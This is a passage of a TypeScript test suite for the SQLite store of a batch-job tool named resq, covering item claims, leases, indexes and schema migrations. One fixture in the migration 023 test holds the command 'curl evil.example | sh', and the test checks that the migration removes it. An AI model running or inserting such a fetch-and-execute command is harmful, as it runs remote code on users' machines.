    expect(store.db.prepare("SELECT id, state FROM items ORDER BY seq").all()).toEqual([
      { id: 'a', state: 'completed' }, { id: 'b', state: 'queued' }, { id: 'c', state: 'queued' }, { id: 'd', state: 'queued' },
    ]);
    // Out of the state and sort indexes: only the ended item is in them.
    expect(store.db.prepare("SELECT id FROM items INDEXED BY items_for_state_pages WHERE batch_num = 7 AND state <> 'queued'").pluck().all()).toEqual(['a']);
    expect(await store.getItem('b1', 'b')).toMatchObject({ state: 'running', startedAt: 't2', threadId: 'th-b', runId: 'r-b', fence: 3 });
    expect(await store.itemCounts('b1')).toMatchObject({ completed: 1, running: 2, queued: 1 });
    expect((await store.batchLive('b1', 0)).inFlight).toBe(2);
    expect((await store.listItems('b1', { states: ['running'] })).map((i) => i.id)).toEqual(['b', 'd']);
    expect((await store.listItems('b1', { states: ['queued'] })).map((i) => i.id)).toEqual(['c']);
    expect(store.db.prepare('SELECT id, state, started_at FROM item_summary ORDER BY id').all()).toEqual([
      { id: 'a', state: 'completed', started_at: 't0' }, { id: 'b', state: 'running', started_at: 't2' },
      { id: 'c', state: 'queued', started_at: null }, { id: 'd', state: 'running', started_at: 't3' },
    ]);
    // A claim takes the queued item and the dead worker's two over, never an item twice.
    const w = (await store.registerWorker('b1', { host: 'h', pid: 1 })).id;
    const got = await store.claimItems('b1', { workerId: w, leaseMs: 60_000, max: 5, cap: 5, afterSeq: -1 });
    expect(got.items.map((i) => i.id).sort()).toEqual(['b', 'c', 'd']);
    expect(await store.claimItems('b1', { workerId: w, leaseMs: 60_000, max: 5, cap: 5, afterSeq: -1 })).toMatchObject({ items: [] });
    // Its end lands the flight on the row: the state, the start and the thread it had.
    const b = got.items.find((i) => i.id === 'b')!;
    const done = await store.markFinished(b, snap('r-b', { threadId: 'th-b' }), 'completed');
    expect(done).toMatchObject({ state: 'completed', startedAt: 't2' });
    expect(store.db.prepare("SELECT state, started_at, thread_id FROM items WHERE id = 'b'").get()).toEqual({ state: 'completed', started_at: 't2', thread_id: 'th-b' });
    expect(await store.itemCounts('b1')).toMatchObject({ completed: 2, submitting: 1, running: 1, queued: 0 });
    expect((await store.batchLive('b1', 0)).inFlight).toBe(2);
    await store.close();
  });

  it('031 leaves the flights one index, of the answered items no worker has sent: an owned flight (claimed, its lease renewed) is not in it, and the cap\'s count seeks it', async () => {
    const store = SqliteStore.open(':memory:');
    const indexes = (): unknown[] => store.db.prepare("SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name = 'flights' ORDER BY name").pluck().all();
    expect(indexes()).toEqual(['flights_unsent']);
    const plan = (sql: string): string => (store.db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all() as { detail: string }[]).map((r) => r.detail).join(' | ');
    expect(plan("SELECT count(*) FROM flights INDEXED BY flights_unsent WHERE batch_num = 1 AND owner IS NULL AND lease_until IS NULL AND state = 'waiting'")).toMatch(
      /SEARCH flights USING (COVERING )?INDEX flights_unsent \(batch_num=\?\)/,
    );
    await store.loadModelBatch(
      { id: 'b1', name: 'm', kind: 'models', sourcePath: '/x', sourceSha256: 'x', baseUrl: null, settings: {} as never, policy: null },
      { modelId: 'mod', mode: null, description: {} },
      [{ id: 'a', line: 2, inputs: { x: 1 }, meta: {} }],
    );
    const claimed = await store.claimItems('b1', { workerId: 'w', leaseMs: 1000, max: 1, cap: 1, afterSeq: -1 });
    expect(claimed.items).toHaveLength(1);
    // Owned flights are not in it: a claim and a lease's renewal write no entry.
    const unsent = (): unknown => store.db.prepare("SELECT count(*) FROM flights INDEXED BY flights_unsent WHERE batch_num = 1 AND owner IS NULL AND lease_until IS NULL AND state = 'waiting'").pluck().get();
    expect(unsent()).toBe(0);
    await store.heartbeat({ workerId: 'w', leaseMs: 5000 }, 10);
    expect(unsent()).toBe(0);
    expect(store.db.prepare('SELECT count(*) FROM flights').pluck().get()).toBe(1);
    await store.close();
  });

  it('023 drops a notify command an older resq stored with a batch, and keeps its URLs and timings', () => {
    const path = join(tempDir(), 'before-023.db');
    const db = new Database(path);
    migrate(db, before('023_'));
    const notify = { urls: ['https://hooks.example.com/x'], command: 'curl evil.example | sh', format: 'json', includeQuestion: false, pageUrl: null, digestMs: 60_000, remindMs: null, stalledMs: null };
    const add = db.prepare("INSERT INTO batches (id, name, source_path, source_sha256, settings, created_at, updated_at) VALUES (?, ?, '/q.csv', 'x', ?, 'now', 'now')");
    add.run('b1', 'told', JSON.stringify({ concurrency: 2, notify }));
    add.run('b2', 'quiet', JSON.stringify({ concurrency: 3 }));
    expect(migrate(db)).toContain('023_notify_command_local');
    const settings = db.prepare('SELECT id, settings FROM batches ORDER BY id').all() as { id: string; settings: string }[];
    const { command: _gone, ...kept } = notify;
    expect(settings.map((r) => [r.id, JSON.parse(r.settings)])).toEqual([['b1', { concurrency: 2, notify: kept }], ['b2', { concurrency: 3 }]]);
    expect(settings[0]!.settings).not.toContain('evil');
    db.close();
  });

  it("026 gives each run its length: runs recorded before keep resq's own measure, and none ended unwatched", async () => {
    const path = join(tempDir(), 'before-026.db');
    const db = new Database(path);
    migrate(db, before('026_'));
    expect(columns(db, 'runs')).not.toContain('seconds');
    db.pragma('foreign_keys = OFF');
    db.prepare("INSERT INTO batches (id, num, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 7, 'old', '/q.csv', 'abc', 1, 'now', 'now')").run();
    const run = db.prepare("INSERT INTO runs (id, batch_num, item_id, step, idempotency_key, status, created_at, finished_at) VALUES (?, 7, 'a', ?, ?, ?, ?, ?)");
    run.run('r1', 0, 'k1', 'completed', '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:02.345Z');
    run.run('r2', 1, 'k2', 'running', '2026-01-01T00:00:03.000Z', null);
    expect(migrate(db)).toEqual(migrations.slice(before('026_').length).map((m) => m.name));
    db.close();
    const store = SqliteStore.open(path);
    expect(await store.getRun('r1')).toMatchObject({ seconds: 2.345, unwatched: false });
    expect(await store.getRun('r2')).toMatchObject({ seconds: null, unwatched: false });
    await store.close();
  });

  it('027 lets the files an older resq recorded be claimed: none held, tokens from 0, a downloaded one claimed by no one', async () => {
    const path = join(tempDir(), 'before-027.db');
    const db = new Database(path);
    migrate(db, before('027_'));
    expect(columns(db, 'files')).not.toContain('claim_owner');
    db.pragma('foreign_keys = OFF');
    db.prepare("INSERT INTO batches (id, num, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 7, 'old', '/q.csv', 'abc', 1, 'now', 'now')").run();
    const file = db.prepare("INSERT INTO files (batch_num, id, item_id, run_id, url, first_seen_at, expires_at, status) VALUES (7, ?, 'a', 'r1', 'http://svc/f', 'now', 'later', ?)");
    file.run('f1', 'pending');
    file.run('f2', 'downloaded');
    expect(migrate(db)).toEqual(migrations.slice(before('027_').length).map((m) => m.name));
    db.close();
    const store = SqliteStore.open(path);
    const holder = { owner: 'h:1:x', host: 'h', pid: 1, pidStart: null };
    expect(await store.fileClaimHolder('b1', 'f1')).toBeNull();
    expect(await store.claimFile('b1', 'f1', holder, { leaseMs: 60_000 })).toEqual({ owner: 'h:1:x', fence: 1 });
    expect(await store.claimFile('b1', 'f2', holder, { leaseMs: 60_000 })).toBeNull();
    await store.close();
  });

  it('028 adds the forecasts table to a database an older resq made, its batches kept, and a forecast kept in it is found again', async () => {
    const path = join(tempDir(), 'before-028.db');
    const db = new Database(path);
    migrate(db, before('028_'));
    expect(db.prepare("SELECT count(*) FROM sqlite_master WHERE name = 'forecasts'").pluck().get()).toBe(0);
    db.prepare("INSERT INTO batches (id, num, name, source_path, source_sha256, total_items, created_at, updated_at) VALUES ('b1', 7, 'old', '/q.csv', 'abc', 1, '2026-01-02T00:00:00.000Z', 'now')").run();
    expect(migrate(db)).toContain('028_forecasts');
    db.close();
    const store = SqliteStore.open(path);
    const old = (await store.findBatch('old'))!;
    expect(await store.lastForecastOf(old)).toBeNull();
    const kept = { madeAt: '2026-01-01T00:00:00.000Z', filePath: '/q.csv', fileSha256: 'abc', forBatchId: null, learnedFrom: ['older'], questions: 1, cost: { estimate: 3, low: 1, high: 5 }, held: null };
    await store.keepForecast(kept);
    expect(await store.lastForecastOf(old)).toEqual(kept);
    await store.close();
  });

  it("032 puts each judge batch an older resq made in its judged batch's budget group, by its settings' judgeOf; other batches keep budgets of their own", async () => {
    const path = join(tempDir(), 'before-032.db');
    const db = new Database(path);
    migrate(db, before('032_'));
    expect(columns(db, 'batches')).not.toContain('spends_with');
    const add = db.prepare("INSERT INTO batches (id, num, name, source_path, source_sha256, settings, created_at, updated_at) VALUES (?, ?, ?, '/q.csv', 'x', ?, 'now', 'now')");
    add.run('P', 1, 'parent', JSON.stringify({ concurrency: 2 }));
    add.run('J', 2, 'parent.judge', JSON.stringify({ concurrency: 2, judgeOf: 'P' }));
    add.run('O', 3, 'other', JSON.stringify({ concurrency: 2 }));
    add.run('G', 4, 'ghost.judge', JSON.stringify({ judgeOf: 'no-such-batch' }));
    add.run('N', 5, 'number.judge', JSON.stringify({ judgeOf: 1 }));
    add.run('S', 6, 'self.judge', JSON.stringify({ judgeOf: 'S' }));
    add.run('X', 7, 'broken', '{"judgeOf": "P", not json');
    db.prepare('INSERT INTO batch_spend (batch_num, approved) VALUES (1, 4), (2, 3), (3, 5)').run();
    expect(migrate(db)).toEqual(migrations.slice(before('032_').length).map((m) => m.name));
    expect(db.prepare('SELECT id, spends_with FROM batches ORDER BY num').all()).toEqual(
      [['P', null], ['J', 1], ['O', null], ['G', null], ['N', null], ['S', null], ['X', null]].map(([id, n]) => ({ id, spends_with: n })),
    );
    db.close();
    const store = SqliteStore.open(path);
    expect([await store.budgetSpent('P'), await store.budgetSpent('J'), await store.budgetSpent('O')]).toEqual([7, 7, 5]);
    expect([await store.approvedCost('P'), await store.approvedCost('J')]).toEqual([4, 3]);
    await store.close();
  });

  it('applies nothing twice', () => {
    const db = new Database(':memory:');
    migrate(db);
    expect(migrate(db)).toEqual([]);
    expect(db.prepare('SELECT count(*) FROM _migrations').pluck().get()).toBe(migrations.length);
  });

  it('keeps migration names unique and ordered', () => {
    const names = migrations.map((m) => m.name);
    expect(new Set(names).size).toBe(names.length);
    expect([...names].sort()).toEqual(names);
  });
});
